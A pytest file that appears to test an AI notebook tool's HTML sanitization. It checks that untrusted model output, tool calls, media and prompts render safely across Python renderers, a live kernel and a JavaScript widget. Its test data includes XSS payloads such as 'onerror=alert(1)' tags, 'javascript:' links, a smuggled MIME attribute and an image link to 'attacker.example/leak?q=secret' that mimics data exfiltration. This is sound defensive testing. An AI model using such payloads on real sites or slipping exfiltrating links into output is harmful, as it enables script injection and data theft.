"""Untrusted text becomes safe HTML on every surface: the payload corpus through each renderer, kernel and widget."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from nbplayground import frames
from nbplayground.core import display, render
from nbplayground.core.types import Media, RunResult, ToolCall
from nbplayground.storage.registry import Prompt, PromptDiff
from support.htmlcheck import in_no_math_container, problems
from support.kernel import Kernel

ROOT = Path(__file__).resolve().parents[1]
CORPUS_FILE = ROOT / "tests" / "support" / "xss_payloads.json"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16


def _corpus() -> list[tuple[str, str]]:
    data = json.loads(CORPUS_FILE.read_text(encoding="utf-8"))
    items = data["payloads"] if isinstance(data, dict) else data
    return [(str(p["id"]), str(p["payload"]).replace("NBPID", str(p["id"]))) for p in items]


CORPUS = _corpus()
IDS = [i for i, _ in CORPUS]


def _result(payload: str, **kw: object) -> RunResult:
    base: dict[str, object] = {"id": "run-1234abcd", "model": "mock/echo", "text": payload, "status": "ok"}
    return RunResult(**{**base, **kw})  # type: ignore[arg-type]


def _surfaces(payload: str) -> dict[str, str]:
    """Every HTML nbplayground can emit with ``payload`` in each untrusted field."""
    tool = ToolCall(id=payload[:40], name=payload[:60], arguments=payload, result=payload)
    asked = ToolCall(id="call_1", name="get_weather", arguments=payload)
    hostile_media = Media(mime=payload[:80] or "image/png", data=PNG, revised_prompt=payload)
    media = Media(mime="image/png", data=PNG, revised_prompt=payload)
    out = {
        "answer": display.bundle(_result(payload))[0]["text/html"],
        "answer as html format": display.bundle(_result(payload), fmt="html")[0]["text/html"],
        "error": display.bundle(_result(payload, status="error", error=payload, error_type=payload[:30]))[0][
            "text/html"
        ],
        "model name": display.bundle(_result("ok", model=payload))[0]["text/html"],
        "tools": display.bundle(_result(payload, tool_calls=[tool]))[0]["text/html"],
        "manual tool": display.bundle(_result("", tool_calls=[asked]), chat=payload)[0]["text/html"],
        "media": display.bundle(_result("", media=[media, hostile_media]))[0]["text/html"],
        "streaming": display.partial(payload, payload, payload)["text/html"],
        "compare": display.compare_bundle([payload, "b"], [payload, payload], [_result(payload), None])[0][
            "text/html"
        ],
        "RunResult repr": _result(payload)._repr_html_(),
        "Media repr": hostile_media._repr_html_(),
        "prompt repr": Prompt(
            name="a/b", version=1, messages=[{"role": payload, "content": payload}], model=payload, labels=[payload]
        )._repr_html_(),
        "prompt diff": PromptDiff("a", "b", payload)._repr_html_(),
    }
    frame = pd.DataFrame({payload[:30] or "c": [payload], "image": [media], "n": [1]})
    out["DataFrame with media"] = frames.frame_html(frame)
    return out


@pytest.mark.parametrize(("pid", "payload"), CORPUS, ids=IDS)
def test_every_surface_keeps_every_payload_inside_the_allow_list(pid, payload):
    for surface, html in _surfaces(payload).items():
        assert in_no_math_container(html), f"{surface}: not in the no-math container"
        assert problems(html) == [], f"{pid} through {surface}: {problems(html)}\n{html[:2000]}"


def test_raw_html_in_an_answer_is_shown_as_text_and_links_are_kept_safe():
    html = render.markdown(
        "<b>bold?</b> [ok](https://example.org/x) [bad](javascript:alert(1)) [rel](/api/contents) "
        "![pixel](https://attacker.example/leak?q=secret) ![inline](data:image/png;base64,AAAA)"
    )
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">ok</a>' in html
    assert "javascript:" not in html.replace("[bad](javascript:alert(1))", "")
    assert 'href="/api' not in html
    # an outside image is never loaded: it is a link the user can choose to open
    assert "<img" not in html and 'href="https://attacker.example/leak?q=secret"' in html
    assert "image: pixel" in html and "image: inline, not shown" in html


def test_dollar_amounts_never_become_math_and_markdown_stays_markdown():
    r = _result("Costs **$5** and $7.\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    data, _ = display.bundle(r)
    assert "text/markdown" not in data
    assert in_no_math_container(data["text/html"])
    assert "<strong>$5</strong> and $7." in data["text/html"] and "<table>" in data["text/html"]


def test_media_mime_types_from_a_provider_never_reach_a_data_uri_unchecked():
    assert "<img" in render.media(Media(mime="image/png", data=PNG))
    for mime in ('image/png" onerror="alert(1)', "image/svg+xml", "text/html", "image/png;charset=x"):
        html = render.media(Media(mime=mime, data=PNG))
        assert "<img" not in html and "data:" not in html and problems(html) == []


def test_dataframe_cells_are_escaped_when_a_media_column_is_shown():
    frame = pd.DataFrame({"<b>col</b>": ["<img src=x onerror=alert(1)>"], "m": [Media(mime="image/png", data=PNG)]})
    html = frames.frame_html(frame)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;b&gt;col&lt;/b&gt;" in html
    assert html.count("<img") == 1 and problems(html) == []


@pytest.fixture(scope="module")
def kernel(tmp_path_factory):
    """A real python3 kernel with nbplayground loaded, in its own home."""
    k = Kernel({"NBPLAYGROUND_HOME": str(tmp_path_factory.mktemp("render") / "home"), "OPENAI_API_KEY": ""})
    ex = k.run("%load_ext nbplayground\nimport nbplayground as nbp, pandas as pd")
    assert ex.error is None, ex.error
    yield k
    k.shutdown()


def run(kernel, code: str) -> None:
    ex = kernel.run(code)
    assert ex.error is None, ex.error


def shown(kernel, code: str) -> dict[str, str]:
    ex = kernel.run(code)
    assert ex.error is None, ex.error
    return ex.final["data"]


def test_thread_view_escapes_turns(kernel):
    run(kernel, "r = nbp.run('<img src=x onerror=alert(1)> **hi**', model='mock/echo', thread_id='t1')")
    run(kernel, "from nbplayground.storage import history; _ = history.flush()")
    data = shown(kernel, "%prompt_chat t1")
    assert "text/markdown" not in data and problems(data["text/html"]) == []
    assert "&lt;img src=x onerror=alert(1)&gt; <strong>hi</strong>" in data["text/html"]


def test_frames_nbplayground_returns_show_without_math_and_others_are_left_alone(kernel):
    run(kernel, "_ = nbp.run('It costs $5 and $7 <b>now</b>', model='mock/echo')")
    run(kernel, "from nbplayground.storage import history; _ = history.flush()")
    for code in ("nbp.history()", "nbp.sql('select text from runs')", "%prompt_history 5", "nbp.prompts.list()"):
        html = shown(kernel, code)["text/html"]
        assert in_no_math_container(html) and problems(html) == [], code
        if "prompts" not in code:
            assert "It costs $5 and $7 &lt;b&gt;now&lt;/b&gt;" in html, code
    # a user's own frame keeps pandas' own display
    html = shown(kernel, "pd.DataFrame({'x': ['$a$']})")["text/html"]
    assert not in_no_math_container(html) and "$a$" in html


# -- the widget's twin: js/lib/markdown.ts under jsdom -------------------------------------------------

JS = ROOT / "js"


@pytest.fixture(scope="module")
def js_render(tmp_path_factory):
    """``renderMarkdown(text)`` from js/lib/markdown.ts, bundled by esbuild, run in node over jsdom."""
    if shutil.which("node") is None:
        pytest.fail("Node.js 20+ is needed for the widget's checks (it also builds the widget)")
    out = tmp_path_factory.mktemp("js") / "markdown.mjs"
    esbuild = JS / "node_modules" / ".bin" / "esbuild"
    subprocess.run([str(esbuild), str(JS / "lib" / "markdown.ts"), "--bundle", "--format=esm", "--platform=node",
                    f"--outfile={out}"], check=True, capture_output=True, timeout=120)  # fmt: skip
    runner = out.with_name("run.mjs")
    runner.write_text(
        f"import {{ JSDOM }} from {json.dumps(str(JS / 'node_modules' / 'jsdom' / 'lib' / 'api.js'))};\n"
        "const dom = new JSDOM('<!doctype html><html><body></body></html>');\n"
        "globalThis.window = dom.window; globalThis.document = dom.window.document;\n"
        "const { renderMarkdown } = await import('./markdown.mjs');\n"
        "import { readFileSync } from 'node:fs';\n"
        "const inputs = JSON.parse(readFileSync(0, 'utf8'));\n"
        "process.stdout.write(JSON.stringify(inputs.map(renderMarkdown)));\n"
    )

    def run(texts: list[str]) -> list[str]:
        proc = subprocess.run(["node", str(runner)], input=json.dumps(texts), capture_output=True, text=True,
                              timeout=120)  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        return json.loads(proc.stdout)

    return run


def test_widget_renderer_keeps_every_payload_inside_the_same_allow_list(js_render):
    rendered = js_render([p for _, p in CORPUS])
    for (pid, _), html in zip(CORPUS, rendered, strict=True):
        assert problems(html) == [], f"{pid} in the widget: {problems(html)}\n{html[:2000]}"
    # the same markup survives both renderers: links, emphasis, code, tables, outside images as links
    sample = ("**b** *i* `c` [ok](https://example.org/x) ![px](https://attacker.example/p.png) <b>raw</b>\n\n"
              "| a |\n|---|\n| 1 |")  # fmt: skip
    (js_html,) = js_render([sample])
    py_html = render.markdown(sample)
    for html in (js_html, py_html):
        assert "<strong>b</strong>" in html and "<em>i</em>" in html and "<code>c</code>" in html
        assert 'href="https://example.org/x"' in html and 'rel="noopener noreferrer nofollow"' in html
        assert "<img" not in html and 'href="https://attacker.example/p.png"' in html
        assert "&lt;b&gt;raw&lt;/b&gt;" in html and "<table>" in html


def test_the_checker_flags_what_a_payload_could_plant():
    # the checks above can fail: each of these is found
    for bad in ('<img src=x onerror="a()">', "<script>x</script>", '<a href="javascript:x">j</a>',
                '<div style="position:fixed;inset:0">x</div>', "<form><input></form>", "<!-- x -->",
                '<img src="https://attacker.example/p.png">', '<span class="jp-Dialog">x</span>'):  # fmt: skip
        assert problems(bad), bad
    assert not in_no_math_container("<p>$5 and $7</p>")


def test_streaming_markdown_renders_what_a_full_render_would_and_restarts_on_a_retry():
    text = "Intro **x**\n\n```\n<a>\n\nstill code\n```\n\n" + "\n\n".join(f"p{i} <b>" for i in range(30))
    stream = render.StreamingMarkdown()
    for end in range(0, len(text) + 1, 7):
        shown = stream(text[:end])
        assert problems(shown) == []
    assert stream(text) == render.markdown(text)
    # a retry replaces the text: nothing of the first attempt is kept
    assert stream("Other answer") == render.markdown("Other answer")
